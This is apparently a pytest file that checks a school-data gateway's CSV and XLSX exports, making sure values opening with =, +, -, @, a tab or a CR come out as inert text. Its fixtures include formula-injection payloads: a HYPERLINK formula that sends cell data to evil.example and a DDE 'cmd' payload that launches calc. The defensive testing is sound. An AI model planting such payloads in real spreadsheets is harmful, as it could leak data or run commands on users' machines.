"""Spreadsheets are safe to open (issue 9, item 4; design.md §5 "exports never emit a live
formula"): text that begins with `=`, `+`, `-`, `@`, a tab or a CR is text in the CSV (a `'`
prefix) and a string cell in the XLSX, while numbers, negative ones too, stay numbers."""

from __future__ import annotations

import io
from datetime import datetime, timedelta, timezone
from decimal import Decimal

from openpyxl import load_workbook

from gateway.exports import render_csv, render_xlsx

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = {
    "X1": '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "X2": "+SUM(1,2)",
    "X3": "-2+3",
    "X4": "@SUM(A1:A9)",
    "X5": "=cmd|' /C calc'!A0",
    "X6": "-1",  # a plain number as text is no formula: left as it is
    "X7": "北京市朝阳区实验小学",
}
# The CSV field of each name, exactly as written (csv quotes a field holding `"` or `,`).
CSV_NAME = {
    "X1": '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""点我"")"',
    "X2": "\"'+SUM(1,2)\"",
    "X3": "'-2+3",
    "X4": "'@SUM(A1:A9)",
    "X5": "'=cmd|' /C calc'!A0",
    "X6": "-1",
    "X7": "北京市朝阳区实验小学",
}
SCHOOL_HEADER = "代码,名称,区县代码,学段,城乡类别,小学在校生数,初中在校生数,高中在校生数,创建时间,更新时间"


async def _schools(gateway) -> list[dict]:
    assert (await gateway.post("/api/v1/districts", json={"code": "110105", "name": "朝阳区"})).status_code == 201
    for number, (code, name) in enumerate(HOSTILE.items()):
        created = await gateway.post("/api/v1/schools", json={
            "code": code, "name": name, "district_code": "110105", "stage": "primary", "locality": "urban",
            "primary_enrollment": 100 + number})
        assert created.status_code == 201, created.text
    return (await gateway.get("/api/v1/schools")).json()["items"]


def _beijing(stamp: str) -> str:
    """How the export writes a time: Beijing wall-clock time to the second."""
    return datetime.fromisoformat(stamp).astimezone(timezone(timedelta(hours=8))).strftime("%Y-%m-%d %H:%M:%S")


async def test_csv_prefixes_formula_text(gateway):
    schools = await _schools(gateway)
    response = await gateway.get("/api/v1/schools", params={"format": "csv"})
    assert response.status_code == 200
    lines = [SCHOOL_HEADER] + [
        f"{s['code']},{CSV_NAME[s['code']]},110105,小学,城区,{s['primary_enrollment']},0,0,"
        f"{_beijing(s['created_at'])},{_beijing(s['updated_at'])}" for s in schools]
    assert response.content.decode("utf-8") == "\ufeff" + "\r\n".join(lines) + "\r\n"


async def test_xlsx_writes_formula_text_as_string_cells(gateway):
    schools = await _schools(gateway)
    response = await gateway.get("/api/v1/schools", params={"format": "xlsx"})
    assert (response.status_code, response.headers["content-type"]) == (200, XLSX)
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in rows] == [s["code"] for s in schools]
    for row in rows:
        name, enrollment = row[1], row[5]
        assert (name.data_type, name.value) == ("s", HOSTILE[row[0].value])
        assert name.quotePrefix is (row[0].value not in ("X6", "X7"))
        assert (enrollment.data_type, type(enrollment.value)) == ("n", int)
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


async def test_tab_and_cr_in_pairing_goals(gateway):
    await _schools(gateway)
    goals = {"X1": "\t=1+1", "X2": "\r=1+1", "X3": " =1+1"}
    for partner, text in goals.items():
        created = await gateway.post("/api/v1/pairings", json={
            "lead_school_code": "X7", "partner_school_code": partner, "program": "城乡手拉手",
            "start_date": "2024-09-01", "end_date": "2025-08-31", "goals": text})
        assert created.status_code == 201, created.text
        assert created.json()["goals"] == text
    pairings = (await gateway.get("/api/v1/pairings")).json()["items"]
    csv_goals = {"X1": "'\t=1+1", "X2": "\"'\r=1+1\"", "X3": " =1+1"}
    response = await gateway.get("/api/v1/pairings", params={"format": "csv"})
    lines = response.content.decode("utf-8").removeprefix("\ufeff").split("\r\n")
    assert lines[0] == "编号,帮扶学校代码,受援学校代码,项目名称,开始日期,结束日期,结对目标,状态,创建时间,更新时间"
    assert lines[1:] == [
        f"{p['id']},X7,{p['partner_school_code']},城乡手拉手,2024-09-01,2025-08-31,"
        f"{csv_goals[p['partner_school_code']]},拟结对,{_beijing(p['created_at'])},{_beijing(p['updated_at'])}"
        for p in pairings] + [""]

    sheet = load_workbook(io.BytesIO((await gateway.get("/api/v1/pairings", params={"format": "xlsx"})).content)).active
    cells = {row[2].value: row[6] for row in sheet.iter_rows(min_row=2)}
    # XML reads a CR in text as a line feed (XML 1.0 §2.11): the cell is text either way.
    assert {code: (c.data_type, c.value, c.quotePrefix) for code, c in cells.items()} == {
        "X1": ("s", "\t=1+1", True), "X2": ("s", "\n=1+1", True), "X3": ("s", " =1+1", False)}


async def test_control_characters_do_not_break_the_xlsx(gateway):
    assert (await gateway.post("/api/v1/districts", json={"code": "110105", "name": "朝阳区"})).status_code == 201
    created = await gateway.post("/api/v1/schools", json={"code": "C1", "name": "实验\x0b小学", "district_code": "110105",
                                                          "stage": "primary", "locality": "urban"})
    assert created.status_code == 201
    response = await gateway.get("/api/v1/schools", params={"format": "xlsx"})
    assert response.status_code == 200
    cell = load_workbook(io.BytesIO(response.content)).active["B2"]
    assert (cell.data_type, cell.value) == ("s", "实验\ufffd小学")


def test_numbers_stay_numbers():
    row = [-5, -2.5, Decimal("-1.5"), 0, "-3.5", "+7", "-1e5", "+86 10 6512 3456", "-", "@", "=", "a=b"]
    assert render_csv(["h"], [row]).decode("utf-8") == (
        "\ufeffh\r\n-5,-2.5,-1.5,0,-3.5,+7,'-1e5,'+86 10 6512 3456,'-,'@,'=,a=b\r\n")
    sheet = load_workbook(io.BytesIO(render_xlsx(["h"], [row], "sheet"))).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [(c.data_type, c.value) for c in cells] == [
        ("n", -5), ("n", -2.5), ("n", -1.5), ("n", 0), ("s", "-3.5"), ("s", "+7"), ("s", "-1e5"),
        ("s", "+86 10 6512 3456"), ("s", "-"), ("s", "@"), ("s", "="), ("s", "a=b")]
    assert [c.quotePrefix for c in cells] == [False] * 6 + [True] * 5 + [False]
